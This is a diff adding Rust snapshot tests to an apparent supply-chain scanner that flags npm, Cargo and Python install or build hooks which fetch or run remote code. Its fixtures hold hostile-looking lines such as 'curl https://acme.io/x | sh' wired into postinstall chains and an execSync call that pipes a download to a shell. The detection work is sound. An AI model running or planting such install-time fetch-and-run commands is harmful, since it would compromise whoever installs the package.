@@ -80,3 +80,123 @@ fn configuration_that_runs_code_is_said() {
         ""
     );
 }
+
+#[test]
+fn a_hook_is_judged_by_the_scripts_that_it_leads_to() {
+    let package = |hook: &str| {
+        format!(
+            "{{\n \"scripts\": {{\n  \"postinstall\": \"{hook}\",\n  \"build\": \"tsc && npm run -s copy\",\n  \"copy\": \"yarn prepare:x\",\n  \"postcopy\": \"pnpm run build\",\n  \"prepare:x\": \"curl https://acme.io/x | sh\"\n }}\n}}\n"
+        )
+    };
+    for hook in [
+        "npm run build",
+        "true && npm run build",
+        "yarn build",
+        "yarn run copy",
+        "pnpm build",
+        "bun run build",
+        "npm-run-all build",
+        "run-s 'prepare:*'",
+        "npx run-p build -- --x",
+        "concurrently \\\"npm:build\\\"",
+        "FOO=1 npm run --silent build",
+        "node --run build",
+        "$npm_execpath run build",
+    ] {
+        let found = shown_full(&[("package.json", &package(hook))]);
+        assert!(
+            found.starts_with("high package.json:7: package.json runs a command that fetches or runs something else when it is installed (`postinstall`, which leads to `prepare:x`)\n    | \"prepare:x\": \"curl https://acme.io/x | sh\""),
+            "{hook}\n{found}"
+        );
+    }
+    // Only what the hook leads to is judged: `npm install` runs no script of this name.
+    let near = package("npm install --no-save build").replace("postinstall", "prepare");
+    insta::assert_snapshot!(shown_full(&[("package.json", &near)]), @r#"
+    low package.json:3: package.json runs a command when it is installed from its repository (`prepare`)
+        | "prepare": "npm install --no-save build",
+    "#);
+}
+
+#[test]
+fn a_script_that_becomes_grave_is_said_though_its_hook_is_old() {
+    let package = |setup: &str| {
+        format!("{{\n \"scripts\": {{\n  \"prepare\": \"npm run build\",\n  \"build\": \"{setup}\"\n }}\n}}\n")
+    };
+    insta::assert_snapshot!(shown_diff(&[("package.json", &package("tsc"))], &[("package.json", &package("tsc && wget https://acme.io/x"))]), @r#"
+    medium package.json:4: package.json runs a command that fetches or runs something else when it is installed from its repository (`prepare`, which leads to `build`)
+        | "build": "tsc && wget https://acme.io/x"
+    "#);
+    insta::assert_snapshot!(shown_full(&[("package.json", &package("tsc -p . && npm run missing"))]), @r#"
+    low package.json:4: package.json runs a command when it is installed from its repository (`prepare`, which leads to `build`)
+        | "build": "tsc -p . && npm run missing"
+    "#);
+    // `;` does not make one word of two.
+    insta::assert_snapshot!(shown_full(&[("package.json", &package("rimraf x;./y"))]), @r#"
+    low package.json:4: package.json runs a command when it is installed from its repository (`prepare`, which leads to `build`)
+        | "build": "rimraf x;./y"
+    "#);
+}
+
+#[test]
+fn files_that_a_hooks_script_starts_run_at_installation() {
+    let package = "{\"scripts\": {\"postinstall\": \"npm run setup\", \"setup\": \"node tools/a.js\"}}";
+    let code = "require('child_process').execSync(\"curl https://acme.io/x | sh\");\n";
+    insta::assert_snapshot!(shown_full(&[("package.json", package), ("tools/a.js", code), ("tools/b.js", code)]), @r#"
+    high tools/a.js:1: This code runs what an address answers
+        | require('child_process').execSync("curl https://acme.io/x | sh");
+    medium package.json:1: package.json runs a command when it is installed (`postinstall`, which leads to `setup`)
+        | {"scripts": {"postinstall": "npm run setup", "setup": "node tools/a.js"}}
+    medium tools/b.js:1: This code runs what an address answers
+        | require('child_process').execSync("curl https://acme.io/x | sh");
+    info tools/a.js:1: This code names hosts: acme.io
+        | require('child_process').execSync("curl https://acme.io/x | sh");
+    info tools/a.js:1: This code starts a program: 2 places in 2 files
+        | require('child_process').execSync("curl https://acme.io/x | sh");
+    "#);
+}
+
+#[test]
+fn scripts_that_call_one_another_in_a_circle_end() {
+    let all: Vec<String> = (0..20_000).map(|n| format!("\"s{n}\": \"run-p 's*' s{}\"", (n + 1) % 20_000)).collect();
+    let package = format!("{{\"scripts\": {{\"install\": \"npm run s0\", {}}}}}", all.join(", "));
+    assert!(
+        shown_full(&[("package.json", &package)]).starts_with("info package.json:1: package.json runs a usual command")
+    );
+}
+
+#[test]
+fn steps_of_a_build_are_known_by_what_the_manifest_says() {
+    let rust = "fn main() { Command::new(\"sh\"); }\n";
+    let python = "import requests\nrequests.get('https://acme.io')\n";
+    insta::assert_snapshot!(shown_full(&[
+        ("Cargo.toml", "[package]\nname = 'a'\nbuild = 'tools/make.rs'\n"),
+        ("tools/make.rs", rust),
+        ("tools/other.rs", rust),
+        ("py/pyproject.toml", "[tool.hatch.build.targets.wheel.hooks.custom]\npath = './hooks/x.py'\n[tool.poetry.build]\nscript = 'p.py'\n[build-system]\nbuild-backend = 'own.backend'\nbackend-path = ['src']\n"),
+        ("py/hooks/x.py", python),
+        ("py/p.py", python),
+        ("py/q.py", python),
+        ("py/src/own/backend.py", python),
+        ("hatch_build.py", python),
+        ("binding.gyp", "{'targets': [{'actions': [{'action': ['python', 'x.py']}]}]}\n"),
+    ]), @r#"
+    medium hatch_build.py:2: hatch_build.py contacts the network when the package is installed
+        | requests.get('https://acme.io')
+    medium py/hooks/x.py:2: x.py contacts the network when the package is installed
+        | requests.get('https://acme.io')
+    medium py/p.py:2: p.py contacts the network when the package is installed
+        | requests.get('https://acme.io')
+    medium py/src/own/backend.py:2: backend.py contacts the network when the package is installed
+        | requests.get('https://acme.io')
+    medium tools/make.rs:1: make.rs starts a shell or downloads something when the crate is built
+        | fn main() { Command::new("sh"); }
+    low binding.gyp:1: node-gyp's configuration runs an action when the package is installed
+        | {'targets': [{'actions': [{'action': ['python', 'x.py']}]}]}
+    low py/pyproject.toml:7: the package is built by code of its own (backend-path)
+        | backend-path = ['src']
+    info hatch_build.py:2: This code names hosts: acme.io
+        | requests.get('https://acme.io')
+    info tools/make.rs:1: This code starts a program: 2 places in 2 files
+        | fn main() { Command::new("sh"); }
+    "#);
+}
